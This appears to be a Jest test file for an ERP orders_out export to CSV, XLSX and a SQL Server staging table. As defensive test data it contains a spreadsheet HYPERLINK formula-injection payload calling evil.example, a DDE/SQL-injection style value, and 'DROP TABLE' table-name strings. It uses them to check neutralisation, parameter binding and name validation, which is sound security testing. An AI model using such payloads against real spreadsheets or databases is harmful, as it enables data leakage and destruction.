import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { NightlySyncJob } from '../../src/erp';
import type { Deps } from '../../src/deps';
import { configuredOutbound, exportOrders } from '../../src/erp/orders-out';
import { mergeOrdersOut, ordersOutMergeSql, quoteStagingTable } from '../../connectors/mssql/orders-out';
import { addDays, todayIso } from '../../src/shared/time';
import { isolatedTestContext, TestContext } from '../support/app';
import { useTestApp } from '../support/test-app';
import { createItem, createSite, setStock } from '../support/erp-factories';
import { createAccount, createTestUser, TestUser, uniq } from '../support/factories';
import { FakeMssqlPool } from '../support/fake-mssql';
import { setListPrice } from '../quotes/helpers';

/** The contract's columns, in order (erp-datasets.md, Outbound). */
const COLUMNS = [
  'order_number',
  'line_no',
  'erp_customer_id',
  'customer_po',
  'sku',
  'site_code',
  'quantity',
  'requested_date',
  'confirmed_date',
  'confirmations',
  'status',
  'ship_complete',
  'payment_terms',
  'incoterm',
  'incoterm_place',
  'currency',
  'net_price',
  'line_total',
  'updated_at',
  'description',
  'ship_date',
  'arrival_date',
  'promised_by',
];

type CsvRow = Record<string, string>;

// orders_out is the picture of every order: on the shared test database other files take orders
// meanwhile, so an export re-checking its picture would never see it settle.
const t = useTestApp({ isolated: true });
const am = t.user('account_manager');

const exportDir = (ctx: TestContext = t) => ctx.deps.config.exportDir;

interface Taken {
  id: string;
  number: string;
  account: { id: string; erp_customer_id: string | null; payment_terms: string | null };
  body: {
    lines: Array<{
      lineNo: number;
      sku: string;
      site: string;
      quantity: number;
      requestedDate: string;
      confirmedDate: string | null;
      confirmations: Array<{ date: string; quantity: number }>;
    }>;
  };
  skus: [string, string];
  site: string;
}

/** An order of two lines: 5 of a stocked sku, 8 of one with 5.5 in stock (confirmed in two dates). */
async function takeOrder(
  ctx: TestContext,
  extra: { customerPo?: string; shipComplete?: boolean } = {},
  user: TestUser = am,
): Promise<Taken> {
  const db = ctx.deps.db;
  const site = await createSite(db);
  const skus: [string, string] = [
    await createItem(db, { leadTimeDays: 10 }),
    await createItem(db, { leadTimeDays: 10 }),
  ];
  await setStock(db, skus[0], site, 100);
  await setStock(db, skus[1], site, '5.5');
  const account = await createAccount(db, { payment_terms: 'NET30' });
  const requested = addDays(todayIso(), 2);
  const res = await ctx.http
    .post('/api/orders')
    .set('authorization', user.auth)
    .send({
      accountId: account.id,
      site,
      customerPo: extra.customerPo ?? uniq('PO'),
      ...(extra.shipComplete !== undefined && { shipComplete: extra.shipComplete }),
      lines: [
        { sku: skus[0], quantity: 5, requestedDate: requested },
        { sku: skus[1], quantity: 8, requestedDate: requested },
      ],
    });
  expect(res.status).toBe(201);
  return { id: res.body.id, number: res.body.number, account, body: res.body, skus, site };
}

function readCsv(dir = exportDir()): { header: string[]; rows: CsvRow[] } {
  const text = fs.readFileSync(path.join(dir, 'orders_out.csv'), 'utf8');
  const records = parse(text, { relax_column_count: false }) as string[][];
  const [header, ...data] = records;
  return { header: header!, rows: data.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!]))) };
}

const rowsOf = (rows: CsvRow[], number: string) => rows.filter((r) => r.order_number === number);

async function readXlsx(dir = exportDir()): Promise<{ header: unknown[]; rows: unknown[][] }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path.join(dir, 'orders_out.xlsx'));
  const ws = wb.getWorksheet('orders_out')!;
  const all: unknown[][] = [];
  ws.eachRow((row) => all.push((row.values as unknown[]).slice(1)));
  return { header: all[0]!, rows: all.slice(1) };
}

const confirmationsText = (line: Taken['body']['lines'][number]) =>
  line.confirmations.map((c) => `${c.date}:${c.quantity}`).join(';');

describe('orders_out file drop', () => {
  test('taking an order writes orders_out.csv with one row per line and the contract columns', async () => {
    const order = await takeOrder(t, { customerPo: 'PO 4711, "rush"' });
    await t.deps.jobs.drain();

    const { header, rows } = readCsv();
    expect(header).toEqual(COLUMNS);
    const mine = rowsOf(rows, order.number);
    expect(mine).toHaveLength(2);
    const [l1, l2] = order.body.lines;
    const common = {
      order_number: order.number,
      erp_customer_id: order.account.erp_customer_id,
      customer_po: 'PO 4711, "rush"',
      site_code: order.site,
      // Every line has a date (line 2's last part on the lead time): the order is confirmed.
      status: 'confirmed',
      ship_complete: 'false',
      payment_terms: 'NET30',
    };
    // Line 2 is confirmed in part from stock and the rest on the lead time: two dated quantities.
    expect(l2!.confirmations.length).toBe(2);
    expect(mine).toEqual([
      expect.objectContaining({
        ...common,
        line_no: '1',
        sku: order.skus[0],
        quantity: '5',
        requested_date: l1!.requestedDate,
        confirmed_date: l1!.confirmedDate,
        confirmations: confirmationsText(l1!),
      }),
      expect.objectContaining({
        ...common,
        line_no: '2',
        sku: order.skus[1],
        quantity: '8',
        requested_date: l2!.requestedDate,
        confirmed_date: l2!.confirmedDate,
        confirmations: confirmationsText(l2!),
      }),
    ]);
    expect(mine[1]!.confirmations).toMatch(/^\d{4}-\d{2}-\d{2}:5\.5;\d{4}-\d{2}-\d{2}:2\.5$/);
    expect(mine[0]!.updated_at).toMatch(/^\d{4}-\d{2}-\d{2}T/);

    // The XLSX holds the same rows; quantities are numbers there.
    const xlsx = await readXlsx();
    expect(xlsx.header).toEqual(COLUMNS);
    const xmine = xlsx.rows.filter((r) => r[0] === order.number);
    expect(xmine.map((r) => [r[1], r[4], r[6]])).toEqual([
      [1, order.skus[0], 5],
      [2, order.skus[1], 8],
    ]);
    // Nothing half-written is left behind.
    expect(fs.readdirSync(exportDir()).sort()).toEqual(['orders_out.csv', 'orders_out.xlsx']);
  });

  test('an order from an accepted quote carries its negotiated terms and agreed prices to the ERP', async () => {
    const db = t.deps.db;
    const site = await createSite(db);
    const sku = await createItem(db);
    await setStock(db, sku, site, 50);
    await setListPrice(db, sku, '19.99');
    const account = await createAccount(db, { payment_terms: 'NET30' });
    const quote = await t.http
      .post('/api/quotes')
      .set('authorization', am.auth)
      .send({
        accountId: account.id,
        terms: { paymentTerms: 'NET60', incoterm: 'CIP', incotermPlace: 'Gdansk' },
        lines: [{ sku, quantity: 3, requestedDate: addDays(todayIso(), 2), discountPct: 5 }],
      });
    await t.http.post(`/api/quotes/${quote.body.id}/send`).set('authorization', am.auth).expect(200);
    const accepted = await t.http
      .post(`/api/quotes/${quote.body.id}/accept`)
      .set('authorization', am.auth)
      .send({ revision: 1 })
      .expect(201);
    await t.deps.jobs.drain();
    const row = readCsv().rows.find((r) => r.order_number === accepted.body.orderNumber);
    // 19.99 less 5 % is 18.9905 a unit; 3 of them 56.97.
    expect(row).toMatchObject({
      payment_terms: 'NET60',
      incoterm: 'CIP',
      incoterm_place: 'Gdansk',
      currency: 'EUR',
      net_price: '18.9905',
      line_total: '56.97',
    });
  });

  test('exporting twice gives the same rows, one per order line and never a duplicate', async () => {
    const order = await takeOrder(t);
    await t.deps.jobs.drain();
    await exportOrders(t.deps, {});
    const first = readCsv().rows;
    await exportOrders(t.deps, { orderIds: [order.id] });
    await exportOrders(t.deps, {});
    const second = readCsv().rows;

    expect(rowsOf(second, order.number)).toEqual(rowsOf(first, order.number));
    expect(rowsOf(second, order.number)).toHaveLength(2);
    const keys = second.map((r) => `${r.order_number}/${r.line_no}`);
    expect(new Set(keys).size).toBe(keys.length);
  });

  test('a cancelled order stays in the file with status cancelled and no confirmations left', async () => {
    const order = await takeOrder(t, { shipComplete: true });
    await t.deps.jobs.drain();
    const res = await t.http
      .post(`/api/orders/${order.id}/cancel`)
      .set('authorization', am.auth)
      .send({ reason: 'customer withdrew' });
    expect(res.status).toBe(200);
    await t.deps.jobs.drain();

    const mine = rowsOf(readCsv().rows, order.number);
    expect(mine.map((r) => [r.line_no, r.status, r.confirmations, r.ship_complete])).toEqual([
      ['1', 'cancelled', '', 'true'],
      ['2', 'cancelled', '', 'true'],
    ]);
  });

  test('exports running at the same time leave complete files and no temporary ones', async () => {
    const order = await takeOrder(t);
    await Promise.all([
      exportOrders(t.deps, {}),
      exportOrders(t.deps, { orderIds: [order.id] }),
      exportOrders(t.deps, {}),
      t.deps.jobs.drain(),
    ]);

    expect(fs.readdirSync(exportDir()).sort()).toEqual(['orders_out.csv', 'orders_out.xlsx']);
    expect(rowsOf(readCsv().rows, order.number)).toHaveLength(2);
    expect((await readXlsx()).rows.filter((r) => r[0] === order.number)).toHaveLength(2);
  });

  test('a changed line and a status change are exported after they commit', async () => {
    const order = await takeOrder(t, { shipComplete: false });
    await t.deps.jobs.drain();
    const changed = await t.http
      .patch(`/api/orders/${order.id}/lines/1`)
      .set('authorization', am.auth)
      .send({ quantity: 7.25, reason: 'more' });
    expect(changed.status).toBe(200);
    await t.deps.jobs.drain();
    expect(rowsOf(readCsv().rows, order.number).map((r) => [r.line_no, r.quantity])).toEqual([
      ['1', '7.25'],
      ['2', '8'],
    ]);

    const moved = await t.http
      .post(`/api/orders/${order.id}/status`)
      .set('authorization', am.auth)
      .send({ status: 'in_production' });
    expect(moved.status).toBe(200);
    await t.deps.jobs.drain();
    expect(rowsOf(readCsv().rows, order.number).map((r) => r.status)).toEqual([
      'in_production',
      'in_production',
    ]);
  });

  test('formula-looking text is neutralized with a leading apostrophe in the CSV and the XLSX', async () => {
    const po = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const order = await takeOrder(t, { customerPo: po });
    await t.deps.jobs.drain();

    const mine = rowsOf(readCsv().rows, order.number);
    expect(mine.map((r) => r.customer_po)).toEqual([`'${po}`, `'${po}`]);

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(path.join(exportDir(), 'orders_out.xlsx'));
    const ws = wb.getWorksheet('orders_out')!;
    const cells: ExcelJS.Cell[] = [];
    ws.eachRow((row) => {
      if (row.getCell(1).value === order.number) cells.push(row.getCell(COLUMNS.indexOf('customer_po') + 1));
    });
    expect(cells).toHaveLength(2);
    for (const cell of cells) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(`'${po}`);
    }
  });
});

describe('orders_out into the ERP staging table on SQL Server', () => {
  const TABLE = 'dbo.FD_ORDERS_IN';

  /** The test's deps as ERP_CONNECTOR=mssql with a mapping naming `table`; the fake stands in for the ERP's server. */
  function mssqlDeps(table: string): Deps {
    const mappingFile = path.join(t.dir, `mapping-${uniq('m')}.json`);
    fs.writeFileSync(mappingFile, JSON.stringify({ datasets: {}, ordersOut: { table } }));
    return {
      ...t.deps,
      config: {
        ...t.deps.config,
        erpConnector: 'mssql',
        erpMappingFile: mappingFile,
        erpMssqlUrl: 'mssql://fd:secret@erp.invalid/erp',
      },
    };
  }
  const fakePool = () => new FakeMssqlPool({ results: [{ match: 'MERGE INTO', columns: [], rows: [] }] });
  /** The configured connector, its SQL Server pool opened by `connect` instead of over the network. */
  const viaFake = (deps: Deps, connect: (url: string) => Promise<FakeMssqlPool>) =>
    configuredOutbound(deps, { connectMssql: connect });

  test('each line is upserted by a MERGE on (order_number, line_no) with bound parameters, the same again on re-export', async () => {
    const po = '=cmd|x; DROP TABLE y --';
    const order = await takeOrder(t, { customerPo: po });
    await t.deps.jobs.drain();
    const deps = mssqlDeps(TABLE);
    const pool = fakePool();
    const urls: string[] = [];
    const connect = async (url: string) => (urls.push(url), pool);

    expect(await exportOrders(deps, { orderIds: [order.id] }, viaFake(deps, connect))).toMatchObject({
      mergedRows: 2,
    });
    const first = pool.executed.map((q) => ({
      sql: q.sql,
      values: Object.fromEntries(Object.entries(q.inputs).map(([k, v]) => [k, v.value])),
    }));
    expect(first).toHaveLength(2);
    expect(urls).toEqual(['mssql://fd:secret@erp.invalid/erp']);
    expect(pool.closed).toBe(true);

    for (const q of first) {
      expect(q.sql).toMatch(/^MERGE INTO \[dbo\]\.\[FD_ORDERS_IN\] WITH \(HOLDLOCK\) AS t\n/);
      expect(q.sql).toContain('ON t.[order_number] = s.[order_number] AND t.[line_no] = s.[line_no]');
      expect(q.sql).toContain('WHEN NOT MATCHED BY TARGET THEN');
      // Values travel as parameters only: none of them is in the statement.
      expect(q.sql).not.toContain(order.number);
      expect(q.sql).not.toContain('DROP');
      expect(Object.keys(q.values).sort()).toEqual([...COLUMNS].sort());
    }
    const [l1, l2] = order.body.lines;
    expect(first.map((q) => q.values)).toEqual([
      {
        order_number: order.number,
        line_no: 1,
        erp_customer_id: order.account.erp_customer_id,
        // Raw in SQL Server (a typed column, not a spreadsheet): no apostrophe.
        customer_po: po,
        sku: order.skus[0],
        site_code: order.site,
        quantity: 5,
        requested_date: l1!.requestedDate,
        confirmed_date: l1!.confirmedDate,
        confirmations: confirmationsText(l1!),
        status: 'confirmed',
        ship_complete: false,
        payment_terms: 'NET30',
        // Taken without a quote and without quote defaults: no Incoterm; priced from the item's
        // list price (10.0000 EUR), as a quote would be: 5 x 10 = 50.
        incoterm: null,
        incoterm_place: null,
        currency: 'EUR',
        net_price: '10',
        line_total: '50',
        updated_at: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T/),
        description: expect.stringMatching(/^Test item /),
        ship_date: l1!.confirmedDate,
        arrival_date: null,
        promised_by: 'ship',
      },
      expect.objectContaining({
        order_number: order.number,
        line_no: 2,
        sku: order.skus[1],
        quantity: 8,
        confirmations: confirmationsText(l2!),
      }),
    ]);

    // Exported again: the same statements with the same keys, so the staging table still holds one row per line.
    const again = fakePool();
    await exportOrders(
      deps,
      { orderIds: [order.id, order.id] },
      viaFake(deps, async () => again),
    );
    expect(
      again.executed.map((q) => ({
        sql: q.sql,
        values: Object.fromEntries(Object.entries(q.inputs).map(([k, v]) => [k, v.value])),
      })),
    ).toEqual(first);
  });

  test('the nightly export (no order ids) upserts every order of the current picture', async () => {
    const order = await takeOrder(t);
    await t.deps.jobs.drain();
    const pool = fakePool();
    const deps = mssqlDeps(TABLE);
    const result = await exportOrders(
      deps,
      {},
      viaFake(deps, async () => pool),
    );
    const merged = pool.executed.map(
      (q) => `${String(q.inputs.order_number?.value)}/${String(q.inputs.line_no?.value)}`,
    );
    expect(merged).toEqual(expect.arrayContaining([`${order.number}/1`, `${order.number}/2`]));
    expect(new Set(merged).size).toBe(merged.length);
    expect(result.mergedRows).toBe(merged.length);
    // The file drop is written too, whatever the connector.
    expect(rowsOf(readCsv().rows, order.number)).toHaveLength(2);
  });

  test('a staging table name that is not schema.table of letters, digits and _ is refused before any statement', async () => {
    expect(quoteStagingTable('dbo.FD_ORDERS_IN')).toBe('[dbo].[FD_ORDERS_IN]');
    expect(quoteStagingTable('[erp].[orders_in_2]')).toBe('[erp].[orders_in_2]');
    expect(quoteStagingTable('FD_ORDERS_IN')).toBe('[FD_ORDERS_IN]');
    for (const bad of [
      'dbo.x; DROP TABLE y',
      'a.b.c',
      'dbo.',
      '',
      'dbo.[x]]',
      'x y',
      '[dbo.x]',
      'dbo.tä',
      '1abc',
      'dbo.x--',
      `x${'a'.repeat(128)}`,
    ]) {
      expect(() => quoteStagingTable(bad)).toThrow(/is not a table name/);
      expect(() => ordersOutMergeSql(bad)).toThrow(/is not a table name/);
    }

    const pool = fakePool();
    await expect(mergeOrdersOut(pool, 'dbo.x; DROP TABLE y', [])).rejects.toThrow(/is not a table name/);
    expect(pool.executed).toEqual([]);

    // Through the mapping: refused when the mapping is read, before a connection is opened.
    const connect = jest.fn(async () => fakePool());
    const badDeps = mssqlDeps('dbo.x; DROP TABLE y');
    await expect(exportOrders(badDeps, {}, viaFake(badDeps, connect))).rejects.toThrow(/ordersOut\/table/);
    expect(connect).not.toHaveBeenCalled();
  });
});

describe('the nightly run', () => {
  test('writes orders_out after the sync, even when there was nothing to sync', async () => {
    const ctx = await isolatedTestContext();
    try {
      const order = await takeOrder(ctx, {}, await createTestUser(ctx.deps.db, 'account_manager'));
      await ctx.deps.jobs.drain();
      fs.rmSync(exportDir(ctx), { recursive: true, force: true });

      await ctx.deps.jobs.enqueue(NightlySyncJob, {});
      await ctx.deps.jobs.drain();
      expect(rowsOf(readCsv(exportDir(ctx)).rows, order.number)).toHaveLength(2);
      expect(fs.existsSync(path.join(exportDir(ctx), 'orders_out.xlsx'))).toBe(true);
    } finally {
      await ctx.close();
    }
  });
});
